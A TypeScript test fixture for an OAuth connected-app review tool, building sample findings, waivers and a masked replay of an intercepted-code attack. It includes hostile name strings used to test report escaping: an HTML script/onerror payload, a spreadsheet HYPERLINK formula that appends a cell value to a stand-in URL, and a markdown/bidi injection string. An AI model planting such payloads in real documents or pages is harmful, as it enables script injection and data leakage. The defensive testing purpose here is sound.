/**
 * A review that holds every kind of thing a report must show: every verdict and client type, an unread file, a waived
 * finding, unknown settings, a replayed attack, and names that try to break out of a format. For tests only.
 */
import type { Proof, ReportedChange, ReportedFinding, ReportedSetting, Review, ReviewedApp } from '../review.ts';

export const FIXED_NOW = new Date('2026-03-01T12:00:00Z');

export const HOSTILE_HTML = '<img src=x onerror="document.title=\'owned\'"><script>document.title="owned"</script>';
export const HOSTILE_FORMULA = '=HYPERLINK("https://example.com/?"&A1,"open")';
export const HOSTILE_MARKDOWN = '@everyone [pay](https://example.com) | `code` **bold** #1 ]]> \u001b[31mred\u202e';

const CONTROL = 'authorization-code-and-credentials-flow-settings';
const CONTROL_NAME = 'Connected Apps: API (Enable OAuth Settings): Authorization Code and Credentials Flow Settings';

const path = (name: string) => `force-app/main/default/connectedApps/${name}.connectedApp-meta.xml`;

function explicit(value: unknown, field: string, file: string, line: number): ReportedSetting {
  return { value, origin: 'explicit', field, file, line, column: 9 };
}
const byDefault = (value: unknown, field: string): ReportedSetting => ({
  value,
  origin: 'default',
  field,
  apiVersion: '49.0',
});
const unknown = (field: string): ReportedSetting => ({
  value: undefined,
  origin: 'unknown',
  field,
  why: 'the global OAuth settings of this app are not in the tree',
});

const webServerSecret = (from: string, to: string, file: string): ReportedChange => ({
  setting: 'secretRequiredForWebServerFlow',
  label: 'Require Secret for Web Server Flow',
  field: 'isConsumerSecretOptional',
  from,
  to,
  file,
});
const refreshSecret = (from: string, to: string, file: string): ReportedChange => ({
  setting: 'secretRequiredForRefreshTokenFlow',
  label: 'Require Secret for Refresh Token Flow',
  field: 'isSecretRequiredForRefreshToken',
  from,
  to,
  file,
});
const pkce = (file: string, from?: string): ReportedChange => ({
  setting: 'pkceRequired',
  label: 'Require Proof Key for Code Exchange (PKCE) Extension for Supported Authorization Flows',
  field: 'isPkceRequired',
  ...(from === undefined ? {} : { from }),
  to: 'true',
  file,
});

const critical = {
  v3: { vector: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:N', score: 9.1 },
  v4: { vector: 'CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:H/VA:N/SC:N/SI:N/SA:N', score: 9.3 },
};
const high = {
  v3: { vector: 'CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:U/C:H/I:H/A:N', score: 7.4 },
  v4: { vector: 'CVSS:4.0/AV:N/AC:H/AT:N/PR:N/UI:N/VC:H/VI:H/VA:N/SC:N/SI:N/SA:N', score: 9.1 },
};

function finding(
  values: Partial<ReportedFinding> & Pick<ReportedFinding, 'rule' | 'severity' | 'message'>,
): ReportedFinding {
  return {
    cvss: null,
    threat: null,
    remediation: [],
    steps: [],
    proof: null,
    waived: null,
    fingerprint: `fp-${values.rule}`,
    ...values,
  };
}

function app(values: Partial<ReviewedApp> & Pick<ReviewedApp, 'name' | 'verdict' | 'because'>): ReviewedApp {
  return {
    kind: 'ConnectedApp',
    label: values.name,
    files: [path(values.name)],
    clientType: { value: 'private', declared: false, confidence: 0.95, evidence: [] },
    settings: {},
    required: {},
    alternatives: [],
    controls: [],
    findings: [],
    withstood: [],
    ...values,
  };
}

const interceptedCode: Proof = {
  scenario: 'intercepted-code',
  before: { attack: 'succeeds', handshake: 'succeeds' },
  after: { attack: 'fails', handshake: 'succeeds' },
  steps: [
    {
      when: 'before',
      who: 'victim',
      what: 'logs in; the redirect carries a code',
      response: 'HTTP/1.1 302 Found\nLocation: https://app.example.com/callback?code=[masked]',
    },
    {
      when: 'before',
      who: 'attacker',
      what: 'redeems the code without secret and without verifier',
      request: 'POST /services/oauth2/token\ngrant_type=authorization_code&code=[masked]&client_id=[key]',
      response: 'HTTP/1.1 200 OK\n{"access_token":"[masked]"}',
    },
    { when: 'after', who: 'victim', what: 'logs in; the redirect carries a code' },
    {
      when: 'after',
      who: 'attacker',
      what: 'redeems the code without secret and without verifier',
      request: 'POST /services/oauth2/token\ngrant_type=authorization_code&code=[masked]&client_id=[key]',
      response: 'HTTP/1.1 400 Bad Request\n{"error":"invalid_client","error_description":"invalid client credentials"}',
    },
  ],
};

function privateWithoutSecret(name: string): ReportedFinding {
  return finding({
    rule: 'secret-not-required-of-private-client',
    severity: 'critical',
    cvss: critical,
    threat: 'intercepted-code',
    message:
      'Whoever gets hold of an authorization code gets the tokens: this private client is not asked for its secret.',
    file: path(name),
    line: 9,
    column: 9,
    remediation: [webServerSecret('true', 'false', path(name))],
    steps: [
      'Check that the client sends client_secret at the token endpoint.',
      'Tick "Require Secret for Web Server Flow" and deploy.',
      'Revoke the refresh tokens issued before.',
    ],
    proof: interceptedCode,
    fingerprint: `a1-${name.length}`,
  });
}

const bookingWeb = app({
  name: 'Booking_Web',
  label: 'Booking (web)',
  verdict: 'noncompliant',
  because: 'A private client must present its secret when it redeems a code, and is not asked to.',
  clientType: {
    value: 'private',
    declared: true,
    confidence: 1,
    evidence: [
      {
        kind: 'declaration',
        says: 'private',
        weight: 1,
        detail: 'Declared in countersign.config.json.',
        file: 'countersign.config.json',
        line: 4,
      },
      {
        kind: 'code',
        says: 'private',
        weight: 0.95,
        detail: 'The consumer key is read in server code.',
        file: 'clients/web/server.ts',
        line: 12,
      },
      {
        kind: 'hint',
        says: 'private',
        weight: 0.3,
        detail: 'The callback is a plain https address.',
        file: path('Booking_Web'),
        line: 7,
      },
    ],
  },
  settings: {
    secretRequiredForWebServerFlow: explicit(false, 'isConsumerSecretOptional', path('Booking_Web'), 9),
    secretRequiredForRefreshTokenFlow: byDefault(true, 'isSecretRequiredForRefreshToken'),
    pkceRequired: byDefault(false, 'isPkceRequired'),
    refreshTokenRotation: byDefault(false, 'isRefreshTokenRotationEnabled'),
    refreshTokenPolicy: explicit(
      { kind: 'lifetime', amount: 30, unit: 'days' },
      'refreshTokenPolicy',
      path('Booking_Web'),
      31,
    ),
    scopes: explicit(['Api', 'RefreshToken'], 'scopes', path('Booking_Web'), 14),
    callbackUrls: explicit(['https://book.example.com/callback'], 'callbackUrl', path('Booking_Web'), 7),
    ipRelaxation: explicit('bypass', 'ipRelaxation', path('Booking_Web'), 30),
  },
  required: { secretRequiredForWebServerFlow: true, secretRequiredForRefreshTokenFlow: true },
  controls: [
    {
      id: CONTROL,
      name: CONTROL_NAME,
      literal: 'fail',
      reconciled: 'fail',
      why: 'The page asks for both boxes to be off; a private client needs both on, and one is off.',
    },
    {
      id: 'require-secret-for-web-server-flow',
      name: 'Connected Apps: Require Secret for Web Server Flow',
      literal: 'fail',
      reconciled: 'fail',
      why: 'The box is off.',
    },
    {
      id: 'require-secret-for-refresh-token-flow',
      name: 'Connected Apps: Require Secret for Refresh Token Flow',
      literal: 'pass',
      reconciled: 'pass',
      why: 'The box is on by default.',
    },
  ],
  findings: [
    finding({
      rule: 'pkce-not-required',
      severity: 'medium',
      cvss: high,
      threat: 'injected-code',
      message: 'A stolen code can be fed into another session: nothing binds it to the one that asked for it.',
      file: path('Booking_Web'),
      line: 6,
      remediation: [pkce(path('Booking_Web'))],
      steps: ['Check that the client sends code_challenge.'],
    }),
    privateWithoutSecret('Booking_Web'),
    finding({
      rule: 'refresh-rotation-advised',
      severity: 'low',
      message: 'Rotation would end a stolen refresh token at its first use by two.',
      waived: {
        reason: 'The batch job cannot store a new token yet.',
        owner: 'platform@example.com',
        expires: '2026-12-31',
      },
    }),
  ],
});

const travellerSpa = app({
  name: 'Traveller_SPA',
  verdict: 'noncompliant',
  because: 'A browser app cannot keep a secret, and is made to carry one.',
  clientType: {
    value: 'public',
    declared: false,
    confidence: 0.98,
    evidence: [
      {
        kind: 'code',
        says: 'public',
        weight: 0.98,
        detail: 'The consumer key is in a browser bundle.',
        file: 'clients/spa/src/login.ts',
        line: 3,
      },
    ],
  },
  settings: {
    secretRequiredForWebServerFlow: byDefault(true, 'isConsumerSecretOptional'),
    secretRequiredForRefreshTokenFlow: explicit(true, 'isSecretRequiredForRefreshToken', path('Traveller_SPA'), 11),
    pkceRequired: explicit(true, 'isPkceRequired', path('Traveller_SPA'), 10),
  },
  required: {
    secretRequiredForWebServerFlow: false,
    secretRequiredForRefreshTokenFlow: false,
    pkceRequired: true,
    refreshTokenRotation: true,
  },
  controls: [
    {
      id: CONTROL,
      name: CONTROL_NAME,
      literal: 'fail',
      reconciled: 'fail',
      why: 'Both boxes must be off for a public client.',
    },
  ],
  findings: [
    finding({
      rule: 'secret-required-of-public-client',
      severity: 'critical',
      cvss: critical,
      threat: 'extracted-secret',
      message: 'The secret this app must send is shipped to every visitor, who can read it and act as the app.',
      file: path('Traveller_SPA'),
      line: 5,
      remediation: [
        webServerSecret('false', 'true', path('Traveller_SPA')),
        refreshSecret('true', 'false', path('Traveller_SPA')),
      ],
      steps: [
        'Check that the client sends code_challenge.',
        'Clear both boxes and deploy.',
        'Rotate the consumer secret.',
      ],
      proof: {
        scenario: 'extracted-secret',
        before: { attack: 'succeeds', handshake: 'succeeds' },
        after: { attack: 'fails', handshake: 'not-judged' },
        steps: [],
      },
    }),
    finding({
      rule: 'refresh-rotation-off',
      severity: 'high',
      cvss: high,
      threat: 'stolen-refresh-token',
      message: 'A stolen refresh token of this public client lives on.',
      file: path('Traveller_SPA'),
      line: 5,
      remediation: [
        {
          setting: 'refreshTokenRotation',
          label: 'Enable Refresh Token Rotation',
          field: 'isRefreshTokenRotationEnabled',
          to: 'true',
          file: path('Traveller_SPA'),
        },
      ],
    }),
  ],
  withstood: ['intercepted-code'],
});

const hostile = [HOSTILE_HTML, HOSTILE_FORMULA, HOSTILE_MARKDOWN].map((name) =>
  app({
    name,
    label: name,
    files: [path(name)],
    verdict: 'noncompliant',
    because: `A private client named ${name} must present its secret.`,
    clientType: {
      value: 'private',
      declared: false,
      confidence: 0.85,
      evidence: [
        {
          kind: 'metadata',
          says: 'private',
          weight: 0.85,
          detail: `Certificate of ${name}.`,
          file: path(name),
          line: 3,
        },
      ],
    },
    settings: {
      secretRequiredForWebServerFlow: explicit(false, 'isConsumerSecretOptional', path(name), 9),
      scopes: explicit([name], 'scopes', path(name), 4),
    },
    required: { secretRequiredForWebServerFlow: true },
    findings: [privateWithoutSecret(name)],
  }),
);

const bothKinds = app({
  name: 'Both_Kinds',
  verdict: 'noncompliant',
  because: 'A server and a mobile app share one app: no value of the boxes is right for both.',
  clientType: {
    value: 'mixed',
    declared: false,
    confidence: 0.9,
    evidence: [
      {
        kind: 'code',
        says: 'private',
        weight: 0.95,
        detail: 'The consumer key is read in server code.',
        file: 'clients/web/server.ts',
        line: 40,
      },
      {
        kind: 'artifact',
        says: 'public',
        weight: 0.9,
        detail: 'The consumer key is in an Android package.',
        file: 'clients/android/app.apk!/classes.dex',
      },
    ],
  },
  settings: { secretRequiredForWebServerFlow: byDefault(true, 'isConsumerSecretOptional') },
  findings: [
    finding({
      rule: 'client-type-mixed',
      severity: 'high',
      cvss: high,
      message: 'Split the app in two: one that keeps a secret and one that uses PKCE.',
      file: path('Both_Kinds'),
      steps: ['Make an external client app for the mobile client.', 'Move the mobile client to it.'],
    }),
  ],
});

const partnerPortal = app({
  name: 'Partner_Portal',
  kind: 'ExternalClientApp',
  files: [
    'force-app/main/default/externalClientApps/Partner_Portal.eca-meta.xml',
    'force-app/main/default/extlClntAppOauthSettings/Partner_Portal.ecaOauth-meta.xml',
  ],
  verdict: 'indeterminate',
  because:
    'The evidence does not say whether the client can keep a secret, and the settings are right for one kind only.',
  clientType: {
    value: 'unknown',
    declared: false,
    confidence: 0.6,
    likely: 'private',
    evidence: [{ kind: 'hint', says: 'private', weight: 0.6, detail: 'The callback is a plain https address.' }],
  },
  settings: {
    secretRequiredForWebServerFlow: unknown('isConsumerSecretOptional'),
    pkceRequired: unknown('isPkceRequired'),
    callbackUrls: explicit(
      [],
      'callbackUrl',
      'force-app/main/default/extlClntAppOauthSettings/Partner_Portal.ecaOauth-meta.xml',
      4,
    ),
  },
  alternatives: [
    { clientType: 'private', verdict: 'compliant', changes: [] },
    {
      clientType: 'public',
      verdict: 'noncompliant',
      changes: [
        {
          setting: 'secretRequiredForWebServerFlow',
          label: 'Require Secret for Web Server Flow',
          field: 'isConsumerSecretOptional',
          to: 'true',
        },
        pkce('force-app/main/default/extlClntAppGlobalOauthSets/Partner_Portal.ecaGlblOauth-meta.xml'),
      ],
    },
  ],
  controls: [
    {
      id: CONTROL,
      name: CONTROL_NAME,
      literal: 'unknown',
      reconciled: 'unknown',
      why: 'The boxes are not in the tree.',
    },
  ],
  findings: [
    finding({ rule: 'client-type-undeclared', severity: 'low', message: 'Say which kind of client uses this app.' }),
  ],
});

const fleet = app({
  name: 'Fleet_Mobile',
  kind: 'ExternalClientApp',
  files: ['force-app/main/default/externalClientApps/Fleet_Mobile.eca-meta.xml'],
  verdict: 'compliant',
  because: 'A public client that is asked for PKCE and for no secret.',
  clientType: {
    value: 'public',
    declared: false,
    confidence: 0.9,
    evidence: [{ kind: 'callback', says: 'public', weight: 0.9, detail: 'The callback is a custom scheme.' }],
  },
  required: { secretRequiredForWebServerFlow: false, pkceRequired: true },
  settings: {
    secretRequiredForWebServerFlow: byDefault(false, 'isConsumerSecretOptional'),
    pkceRequired: byDefault(true, 'isPkceRequired'),
  },
  controls: [
    {
      id: CONTROL,
      name: CONTROL_NAME,
      literal: 'pass',
      reconciled: 'pass',
      why: 'Both boxes are off, as a public client needs.',
    },
  ],
  findings: [
    finding({
      rule: 'credentials-allowed-in-header-or-url',
      severity: 'low',
      threat: 'credential-log-leak',
      message: "The user's password may travel outside the body of the request.",
    }),
  ],
  withstood: ['intercepted-code', 'stolen-refresh-token'],
});

const intranet = app({
  name: 'Intranet_Portal',
  verdict: 'compliant',
  because: 'A private client that must present its secret.',
});

const kiosk = app({
  name: 'Kiosk',
  verdict: 'compliant',
  because: 'A private client that must present its secret.',
  findings: [
    finding({
      rule: 'pkce-not-required',
      severity: 'low',
      message: 'PKCE is not required.',
      waived: { reason: 'Retired in May.' },
    }),
  ],
});

const saml = app({
  name: 'Legacy_SAML',
  verdict: 'not-applicable',
  because: 'No authorization-code flow is possible: the app has no callback.',
  clientType: { value: 'unknown', declared: false, confidence: 0, evidence: [] },
});

/** The review of everything above. */
export function richReview(): Review {
  return structuredClone({
    schemaVersion: 1,
    tool: { name: 'countersign', version: '0.1.0' },
    complete: false,
    errors: [
      {
        file: path('Broken'),
        line: 3,
        column: 7,
        message: 'The element "oauthConfig" is not closed. Retrieve the file again.',
      },
      { file: 'lost.zip', message: 'The archive ends early. Retrieve it again.' },
    ],
    summary: {
      apps: 11,
      compliant: 3,
      noncompliant: 6,
      indeterminate: 1,
      notApplicable: 1,
      findings: { critical: 6, high: 2, medium: 2, low: 2 },
      waived: 2,
      baseline: 4,
    },
    org: {
      settings: {
        codeCredentialFlowAllowed: explicit(
          true,
          'oAuthCdCrdtFlowEnable',
          'force-app/main/default/settings/OauthOidc.settings-meta.xml',
          4,
        ),
        usernamePasswordFlowBlocked: explicit(
          false,
          'blockOAuthUnPwFlow',
          'force-app/main/default/settings/OauthOidc.settings-meta.xml',
          5,
        ),
      },
      findings: [
        finding({
          rule: 'weaker-flow-open',
          severity: 'medium',
          threat: 'password-theft',
          message: 'The username-password flow is still open in this org.',
          file: 'force-app/main/default/settings/OauthOidc.settings-meta.xml',
          line: 5,
          remediation: [
            {
              setting: 'usernamePasswordFlowBlocked',
              label: 'Allow OAuth Username-Password Flows',
              field: 'blockOAuthUnPwFlow',
              from: 'false',
              to: 'true',
              file: 'force-app/main/default/settings/OauthOidc.settings-meta.xml',
            },
          ],
        }),
      ],
    },
    unattached: [
      finding({
        rule: 'secret-exposed-in-client',
        severity: 'critical',
        cvss: critical,
        threat: 'extracted-secret',
        message: 'A client secret (A1B2…, 64 characters) is in a browser bundle.',
        file: 'clients/old spa/dist/main.js',
        line: 1,
        column: 20431,
      }),
    ],
    notes: ['The waiver of refresh-rotation-off for Kiosk expired on 2025-12-31 and no longer waives.'],
    apps: [bookingWeb, travellerSpa, ...hostile, bothKinds, partnerPortal, fleet, intranet, kiosk, saml],
  } satisfies Review);
}

/** A review of as many apps as asked for, in turn like those above. For reports that must stay readable and fast. */
export function manyApps(many: number): Review {
  const review = richReview();
  const models = review.apps.filter((model) => /^\w+$/.test(model.name));
  const apps = Array.from({ length: many }, (_, index) => {
    const model = models[index % models.length] ?? bookingWeb;
    return { ...model, name: `${model.name}_${index}`, label: `${model.label} ${index}` };
  });
  const having = (verdict: ReviewedApp['verdict']) => apps.filter((one) => one.verdict === verdict).length;
  const findings = { critical: 0, high: 0, medium: 0, low: 0 };
  for (const one of apps) {
    for (const found of one.findings) if (found.waived === null) findings[found.severity] += 1;
  }
  return {
    ...review,
    complete: true,
    errors: [],
    summary: {
      ...review.summary,
      apps: many,
      compliant: having('compliant'),
      noncompliant: having('noncompliant'),
      indeterminate: having('indeterminate'),
      notApplicable: having('not-applicable'),
      findings,
    },
    apps,
  };
}
